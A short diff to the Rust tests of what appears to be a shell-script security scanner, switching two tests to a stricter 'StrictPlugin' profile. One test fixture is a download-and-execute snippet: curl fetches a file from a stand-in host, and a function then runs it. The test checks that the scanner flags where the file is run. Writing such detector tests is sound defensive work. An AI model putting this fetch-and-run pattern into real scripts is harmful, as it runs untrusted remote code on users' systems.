@@ -111,7 +111,7 @@ const HARMLESS: &[&str] = &[
 
 fn rules(text: &str) -> Vec<(String, Severity)> {
     let text = format!("#!/bin/sh\n{text}\n");
-    let report = report(Profile::General, &[("a.sh", text.as_bytes())]);
+    let report = report(Profile::StrictPlugin, &[("a.sh", text.as_bytes())]);
     let all = report.findings().iter();
     let inside = |finding: &&plugward_types::Finding| finding.span.end <= text.len();
     all.filter(inside).map(|finding| (finding.rule.as_str().to_owned(), finding.severity)).collect()
@@ -137,7 +137,7 @@ fn what_is_compared_or_not_run_is_no_danger() {
 #[test]
 fn a_finding_stands_where_the_file_is_run() {
     let text = "curl -o f https://h.example/f\nrun() { ./f; }\nrun\n";
-    let report = report(Profile::General, &[("a.sh", text.as_bytes())]);
+    let report = report(Profile::StrictPlugin, &[("a.sh", text.as_bytes())]);
     let all = report.findings().iter().filter(|finding| finding.rule.as_str() == "exec/drop-run");
     let places: Vec<&str> = all.map(|finding| &text[finding.span.start..finding.span.end]).collect();
     assert_eq!(places, ["./f"]);
